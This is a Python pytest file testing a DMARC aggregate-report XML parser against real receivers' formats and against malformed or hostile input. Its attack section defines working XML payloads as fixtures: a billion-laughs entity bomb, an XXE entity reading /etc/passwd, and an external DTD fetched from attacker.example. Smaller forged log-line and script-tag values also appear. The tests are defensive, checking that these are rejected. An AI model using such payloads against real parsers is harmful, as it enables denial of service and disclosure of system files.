"""Aggregate report XML as receivers write it (Google, Outlook.com, Yahoo, an RFC 9990 reporter) into typed rows,
and XML attacks and broken reports refused with a reason."""

from __future__ import annotations

import ipaddress
from datetime import UTC, datetime

import pytest

from core.rules.rua.errors import ReportRejected
from core.rules.rua.models import DkimAuth, Policy, Row, SpfAuth, report_key
from core.rules.rua.parse import MAX_PART_ELEMENTS, parse
from tests.unit.rules.rua.samples import sample

MAY_1 = datetime(2026, 5, 1, tzinfo=UTC)
SES_IP = ipaddress.ip_address("54.240.8.17")
GOOGLE = sample("google.xml")


def _rejected(xml: bytes) -> str:
    with pytest.raises(ReportRejected) as caught:
        parse(xml)
    return caught.value.reason


def _with(old: bytes, new: bytes, xml: bytes = GOOGLE) -> bytes:
    assert old in xml
    return xml.replace(old, new, 1)


# --- receivers' formats ---------------------------------------------------------------------------------------------


def test_given_googles_report_without_namespace_when_parsed_then_metadata_policy_and_every_record_are_read() -> None:
    report = parse(GOOGLE)

    assert (report.org_name, report.email, report.report_id) == (
        "google.com",
        "noreply-dmarc-support@google.com",
        "7382615293746120394",
    )
    assert (report.begin, report.end) == (MAY_1, datetime(2026, 5, 1, 23, 59, 59, tzinfo=UTC))
    assert report.domain == "example.com"
    assert report.policy == Policy(p="none", sp="none", np="none", pct=100, adkim="r", aspf="r")
    assert [(str(r.source_ip), r.count, r.dmarc_pass) for r in report.records] == [
        ("54.240.8.17", 1412, True),
        ("209.85.220.41", 6, True),  # a forward: SPF broke, the DKIM signature survived
        ("198.51.100.23", 2, False),
    ]
    assert report.records[0] == Row(
        source_ip=SES_IP,
        count=1412,
        disposition="none",
        dkim="pass",
        spf="pass",
        header_from="example.com",
        dkim_auth=(
            DkimAuth("example.com", "4hyyxqy3qnsbuq7bk6gywqxr5ksmvaxa", "pass"),
            DkimAuth("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass"),
        ),
        spf_auth=(SpfAuth("bounce.example.com", "", "pass"),),
    )


def test_given_outlooks_report_with_schema_namespaces_and_extra_elements_when_parsed_then_all_records_are_read() -> (
    None
):
    report = parse(sample("outlook.xml"))

    assert report.org_name == "Outlook.com"
    assert report.domain == "example.com"  # published as Example.COM
    assert report.end == datetime(2026, 5, 2, tzinfo=UTC)
    assert [(r.header_from, r.envelope_from, r.dmarc_pass) for r in report.records] == [
        ("example.com", "bounce.example.com", True),
        ("shop.example.com", "eu-west-1.amazonses.com", False),  # SES without the domain's DKIM or MAIL FROM
        ("example.com", "mailer.crm-vendor.example", False),  # a third party signing as itself
    ]
    assert report.records[2].spf_auth == (SpfAuth("mailer.crm-vendor.example", "mfrom", "pass"),)


def test_given_yahoos_minimal_report_when_parsed_then_missing_optional_elements_take_their_defaults() -> None:
    report = parse(sample("yahoo.xml"))

    assert report.policy == Policy(p="none")
    assert (report.policy.adkim, report.policy.aspf, report.policy.pct) == ("r", "r", None)
    [row] = report.records
    assert row.dkim_auth == (DkimAuth("example.com", "", "pass"),)
    assert row.envelope_from == ""


def test_given_an_rfc9990_report_when_parsed_then_namespace_ipv6_extensions_and_new_tags_are_understood() -> None:
    report = parse(sample("rfc9990.xml"))

    assert report.report_id == "<20260502.7f3a91@receiver.example>"
    assert report.policy == Policy(p="quarantine", sp="quarantine", np="reject", adkim="s", aspf="r", testing="n")
    assert [(r.source_ip, r.count, r.disposition, r.dmarc_pass) for r in report.records] == [
        (ipaddress.ip_address("2a01:111:f400:7e1b::2"), 12, "pass", True),
        (ipaddress.ip_address("2001:db8:5:1::25"), 3, "quarantine", False),
        (SES_IP, 150, "pass", True),  # sent as ::ffff:54.240.8.17, the same sender over IPv6
    ]
    assert report.records[0].dkim_auth == (
        DkimAuth("example.com", "2026a", "pass"),
        DkimAuth("example.com", "2025b", "fail"),
    )
    assert report.records[1].spf_auth == (SpfAuth("mx.spoofer.example", "helo", "none"),)


def test_given_the_same_report_id_with_or_without_angle_brackets_when_keyed_then_the_keys_match() -> None:
    report = parse(sample("rfc9990.xml"))

    assert report.key == report_key("MAIL.RECEIVER.EXAMPLE", "20260502.7f3a91@receiver.example")
    assert report.key != report_key("other.example", "20260502.7f3a91@receiver.example")
    assert len(report.key) == 16


def test_given_attacker_text_in_names_and_ids_when_parsed_then_control_characters_go_and_length_is_bounded() -> None:
    xml = _with(b"<org_name>google.com</org_name>", b"<org_name>evil&#10;Forged: log line&#x202E;</org_name>")
    xml = _with(b"<report_id>7382615293746120394</report_id>", b"<report_id>" + b"9" * 5000 + b"</report_id>", xml)

    report = parse(xml)

    assert report.org_name == "evil Forged: log line"
    assert report.report_id == "9" * 200


def test_given_a_header_from_that_is_no_domain_when_parsed_then_it_is_left_empty() -> None:
    xml = _with(b"<header_from>example.com</header_from>", b"<header_from>&lt;script&gt;x</header_from>")

    assert parse(xml).records[0].header_from == ""


def test_given_an_unknown_disposition_when_parsed_then_it_counts_as_other() -> None:
    xml = _with(b"<disposition>none</disposition>", b"<disposition>sampled_out</disposition>")

    assert parse(xml).records[0].disposition == "other"


# --- attacks and broken reports -------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE feedback [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<feedback><report_metadata><org_name>&secret;</org_name></report_metadata></feedback>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE feedback SYSTEM "http://attacker.example/dmarc.dtd">
<feedback/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
def test_given_xml_with_a_dtd_when_parsed_then_rejected_before_any_entity_is_expanded(xml) -> None:
    assert _rejected(xml).startswith("the XML declares a DTD or entities (DTDForbidden)")


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (GOOGLE[: len(GOOGLE) // 2], "the XML is not well-formed: no element found: line 45"),  # truncated
        (b"", "the XML is not well-formed: no element found"),
        (b'<?xml version="1.0" encoding="x-klingon"?><feedback/>', "the XML is not well-formed: unknown encoding"),
        (b"<feedback>&undefined;</feedback>", "the XML is not well-formed: undefined entity"),
        (b"<html><body>hello</body></html>", "the root element is <html>, not a DMARC <feedback>"),
        (b'<feedback xmlns="urn:example:other"/>', "the root element is <{urn:example:other}feedback>"),
        (b"<feedback>" + b"<a>" * 20 + b"</a>" * 20 + b"</feedback>", "elements nest more than 16 deep"),
        (b"<feedback><record>" + b"<x/>" * MAX_PART_ELEMENTS + b"</record></feedback>", "one part of the report"),
        (b"<feedback/>", "the report has no <report_metadata>"),
    ],
)
def test_given_broken_xml_when_parsed_then_rejected_with_the_reason(xml, reason) -> None:
    assert _rejected(xml).startswith(reason)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (b"<org_name>google.com</org_name>", b"", "report_metadata has no org_name"),
        (
            b"<report_id>7382615293746120394</report_id>",
            b"<report_id> </report_id>",
            "report_metadata has no report_id",
        ),
        (b"<begin>1777593600</begin>", b"<begin>yesterday</begin>", "date_range begin 'yesterday' is not seconds"),
        (b"<begin>1777593600</begin>", b"<begin>99999999999</begin>", "date_range begin '99999999999' is not"),
        (b"<end>1777679999</end>", b"<end>1777000000</end>", "date_range ends (2026-04-24 03:06) before it begins"),
        (b"<domain>example.com</domain>", b"<domain>not a domain</domain>", "policy_published domain 'not a domain'"),
        (b"<p>none</p>", b"<p>monitor</p>", "policy_published p 'monitor' is not one of none, quarantine, reject"),
        (b"<source_ip>54.240.8.17</source_ip>", b"<source_ip>54.240.8.256</source_ip>", "record 1: source_ip"),
        (b"<count>6</count>", b"<count>-6</count>", "record 2: count '-6' is not a whole number of messages"),
        (b"<count>6</count>", b"<count>99999999999</count>", "record 2: count '99999999999'"),
        (b"<policy_evaluated>", b"<evaluated>", "the XML is not well-formed: mismatched tag"),
    ],
)
def test_given_a_required_field_missing_or_malformed_when_parsed_then_the_report_is_rejected(old, new, reason) -> None:
    assert _rejected(_with(old, new)).startswith(reason)


def test_given_a_record_without_policy_evaluated_when_parsed_then_rejected_naming_the_record() -> None:
    start, end = GOOGLE.index(b"<policy_evaluated>"), GOOGLE.index(b"</policy_evaluated>") + 19
    assert _rejected(GOOGLE[:start] + GOOGLE[end:]) == "record 1 row has no <policy_evaluated>"


def test_given_no_policy_published_or_no_record_when_parsed_then_rejected() -> None:
    start, end = GOOGLE.index(b"<policy_published>"), GOOGLE.index(b"</policy_published>") + 19
    assert _rejected(GOOGLE[:start] + GOOGLE[end:]) == "the report has no <policy_published>"
    start = GOOGLE.index(b"<record>")
    assert _rejected(GOOGLE[:start] + b"</feedback>") == "the report has no <record>"


def test_given_more_auth_results_than_reporters_may_send_when_parsed_then_the_first_hundred_are_kept() -> None:
    signature = b"<dkim><domain>example.com</domain><selector>s</selector><result>fail</result></dkim>"
    xml = _with(b"<auth_results>", b"<auth_results>" + signature * 150)

    assert len(parse(xml).records[0].dkim_auth) == 100
